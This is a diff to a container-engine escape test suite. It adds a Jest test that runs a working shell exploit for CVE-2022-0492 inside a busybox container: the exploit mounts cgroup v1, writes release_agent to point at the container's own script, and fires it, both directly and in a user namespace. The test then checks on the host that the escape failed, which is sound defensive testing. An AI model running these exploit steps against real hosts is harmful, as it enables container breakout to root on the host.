@@ -518,7 +518,60 @@ describe.each(TARGETS)('escape suite against %s', (kind) => {
     }, 180000);
   });
 
-  // 9. The engine keeps serving, and nothing leaked.
+  // 9. CVE-2022-0492 (cgroup v1 release_agent): a container mounts a cgroup v1 hierarchy (as it is,
+  //    or as root of a fresh user namespace) and points its release_agent at a script of its own,
+  //    which the host kernel would run as root when a cgroup empties. Judged on the host: every
+  //    hierarchy's release_agent is as it was and the script never wrote its host file.
+  describe('CVE-2022-0492: cgroup v1 release_agent', () => {
+    /** Every cgroup v1 hierarchy's release_agent on the host: `<file>=<value>`. */
+    const hostAgents = (): string[] =>
+      fs
+        .readdirSync('/sys/fs/cgroup')
+        .map((d) => join('/sys/fs/cgroup', d, 'release_agent'))
+        .filter((f) => fs.existsSync(f))
+        .map((f) => `${f}=${fs.readFileSync(f, 'utf8').trim()}`);
+
+    it.each([
+      ['the default profile', [] as string[]],
+      ['seccomp=unconfined', ['--security-opt', 'seccomp=unconfined']],
+    ])('with %s: no release_agent is set and the agent never runs on the host', (what, flags) => {
+      const before = hostAgents();
+      expect(before.length).toBeGreaterThan(0); // a cgroup v1 host: the attack has something to aim at
+      const released = join(fx.dir, `released-${++seq}`);
+      // /attempt.sh LABEL: mount a v1 hierarchy, write its release_agent (and the ones under
+      // /sys/fs/cgroup), then empty a notify_on_release child cgroup to fire it.
+      const attempt = [
+        'l=$1; m=; mkdir -p /tmp/cg-$l',
+        'for s in rdma memory pids cpu,cpuacct freezer; do if mount -t cgroup -o $s cgroup /tmp/cg-$l 2>/tmp/err; then echo "$l mount $s ok"; m=1; break; else echo "$l mount $s refused: $(cat /tmp/err)"; fi; done',
+        'for f in /tmp/cg-$l/release_agent /sys/fs/cgroup/*/release_agent; do [ -e "$f" ] || continue; if echo "$AGENT" > "$f" 2>/tmp/err; then echo "$l WROTE $f"; else echo "$l write $f refused: $(cat /tmp/err)"; fi; done',
+        'if [ -n "$m" ]; then mkdir -p /tmp/cg-$l/esc && echo 1 > /tmp/cg-$l/esc/notify_on_release && sh -c "echo \\$\\$ > /tmp/cg-$l/esc/cgroup.procs" && echo "$l triggered"; fi',
+        'echo "$l done"',
+      ].join('\n');
+      const script = [
+        // the container's own files as the host sees them: overlay's upperdir, as the exploit finds it
+        `up=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -n 1)`,
+        `printf '#!/bin/sh\\necho escaped > ${released}\\n' > /agent && chmod 755 /agent`,
+        'export AGENT="$up/agent"; echo "agent $AGENT"',
+        `cat > /attempt.sh <<'EOF'\n${attempt}\nEOF`,
+        'sh /attempt.sh direct',
+        'unshare -Urm sh /attempt.sh userns || echo "userns refused"',
+        ': "$0"',
+      ].join('\n');
+      const r = run([...flags, image(IMAGES.busybox), 'sh', '-c', script, fx.token]);
+      notes.push(
+        `release_agent with ${what}: ${r.stdout.includes(' ok') ? 'a cgroup mount succeeded' : 'every cgroup mount refused'}; ${r.stdout.includes('userns refused') ? 'unshare refused' : 'unshare ran'}`,
+      );
+      expect(r.stdout).toMatch(/^direct done$/m); // the attack ran
+      expect(r.stdout).toMatch(/^direct mount memory /m);
+      if (!r.stdout.includes('userns refused')) expect(r.stdout).toMatch(/^userns done$/m);
+      expectHostUnchanged(`release_agent with ${what}`, before, hostAgents());
+      if (fs.existsSync(released)) throw new Error(`ESCAPE: the host ran the container's release agent (${released})\n${show('run release_agent', r)}`);
+      if (/ WROTE /.test(r.stdout)) throw new Error(`ESCAPE: a release_agent was written\n${show('run release_agent', r)}`);
+      expectServing();
+    });
+  });
+
+  // 10. The engine keeps serving, and nothing leaked.
   it('after the attacks: docker run --rm works and no container, process or mount was left behind', async () => {
     expect(ok('run --rm true', run([image(IMAGES.busybox), 'true'])).status).toBe(0);
     expect(dk(['ps', '-aq']).stdout.trim()).toBe('');
